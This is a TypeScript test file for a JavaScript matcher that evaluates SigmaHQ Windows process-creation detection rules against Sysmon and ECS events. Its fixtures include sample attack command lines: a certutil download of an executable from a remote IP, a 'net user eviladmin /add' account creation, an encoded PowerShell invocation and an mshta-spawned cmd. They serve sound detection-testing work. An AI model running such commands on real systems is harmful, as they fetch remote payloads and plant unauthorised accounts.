import { join } from 'node:path';
import type { SigmaRule } from '../model';
import { parseSigmaFile } from '../parse';
import { getPipeline } from '../pipelines';
import { CORPUS } from '../test-support/rules';
import { JsMatcherBackend } from './js';

const load = (path: string): SigmaRule => {
  const doc = parseSigmaFile(join(CORPUS, 'rules/windows/process_creation', path)).documents[0];
  if (doc?.kind !== 'rule') throw new Error('not a rule');
  return doc;
};

/** A Sysmon process-creation event in the EVTX JSON shape. */
const sysmon1 = (data: Record<string, string>): Record<string, unknown> => ({
  Event: { System: { EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'ws-017.city.local' }, EventData: data },
});

describe('JS matcher on SigmaHQ process_creation rules', () => {
  const backend = new JsMatcherBackend([getPipeline('windows')]);

  test('certutil download: image or original name, a download flag, and http', () => {
    const m = backend.compile(load('proc_creation_win_certutil_download.yml')).match;
    expect(m(sysmon1({ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil.exe -urlcache -split -f http://203.0.113.5/a.exe a.exe' }))).toBe(
      true,
    );
    expect(m(sysmon1({ Image: 'C:\\Temp\\cu.exe', OriginalFileName: 'CertUtil.exe', CommandLine: 'cu -verifyctl -f https://x/y' }))).toBe(true);
    expect(m(sysmon1({ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -decode a.b64 a.exe' }))).toBe(false);
  });

  test('net user add: contains|all needs both words', () => {
    const m = backend.compile(load('proc_creation_win_net_user_add.yml')).match;
    expect(m(sysmon1({ Image: 'C:\\Windows\\System32\\net1.exe', CommandLine: 'net1 user eviladmin P@ss /add' }))).toBe(true);
    expect(m(sysmon1({ Image: 'C:\\Windows\\System32\\net.exe', CommandLine: 'net user eviladmin' }))).toBe(false);
  });

  test('encoded PowerShell: nested condition with an optional filter', () => {
    const m = backend.compile(load('proc_creation_win_powershell_base64_encoded_cmd.yml')).match;
    const base = { Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' };
    expect(m(sysmon1({ ...base, CommandLine: 'powershell.exe -enc JABzAD0ATgBlAHcA' }))).toBe(true);
    expect(m(sysmon1({ ...base, CommandLine: 'powershell.exe -ExecutionPolicy remotesigned -enc JABzAD0ATgBlAHcA' }))).toBe(false);
    expect(m(sysmon1({ ...base, CommandLine: 'powershell.exe -File C:\\scripts\\backup.ps1' }))).toBe(false);
  });

  test('mshta child: parent and child both required', () => {
    const m = backend.compile(load('proc_creation_win_mshta_susp_child_processes.yml')).match;
    expect(m(sysmon1({ ParentImage: 'C:\\Windows\\System32\\mshta.exe', Image: 'C:\\Windows\\System32\\cmd.exe' }))).toBe(true);
    expect(m(sysmon1({ ParentImage: 'C:\\Windows\\explorer.exe', Image: 'C:\\Windows\\System32\\cmd.exe' }))).toBe(false);
  });

  test('a non-process-creation Sysmon event never matches a process_creation rule', () => {
    const m = backend.compile(load('proc_creation_win_mshta_susp_child_processes.yml')).match;
    const ev = sysmon1({ ParentImage: 'C:\\Windows\\System32\\mshta.exe', Image: 'C:\\Windows\\System32\\cmd.exe' });
    (ev.Event as { System: { EventID: number } }).System.EventID = 3;
    expect(m(ev)).toBe(false);
  });
});

describe('field access', () => {
  const m = new JsMatcherBackend().compile(load('proc_creation_win_mshta_susp_child_processes.yml')).match;

  test('dotted names resolve nested objects, flat dotted keys, and any mix', () => {
    const direct = new JsMatcherBackend([getPipeline('ecs')]).compile(load('proc_creation_win_net_user_add.yml')).match;
    // host.os.type: the ecs pipeline routes windows rules to Windows events.
    const nested = {
      host: { os: { type: 'windows' } },
      event: { category: 'process', type: 'start' },
      process: { executable: 'C:\\Windows\\net.exe', command_line: 'net user x /add' },
    };
    const flat = {
      'host.os.type': 'windows',
      'event.category': 'process',
      'event.type': 'start',
      'process.executable': 'C:\\Windows\\net.exe',
      'process.command_line': 'net user x /add',
    };
    const mixed = {
      'host.os': { type: 'windows' },
      event: { category: 'process', type: 'start' },
      process: { command_line: 'net user x /add' },
      'process.executable': 'C:\\Windows\\net.exe',
    };
    expect([direct(nested), direct(flat), direct(mixed)]).toEqual([true, true, true]);
  });

  test('arrays match when any element matches', () => {
    expect(m({ ParentImage: ['C:\\a.exe', 'C:\\Windows\\System32\\mshta.exe'], Image: 'C:\\Windows\\System32\\cmd.exe' })).toBe(true);
    expect(m({ ParentImage: ['C:\\a.exe'], Image: 'C:\\Windows\\System32\\cmd.exe' })).toBe(false);
  });
});
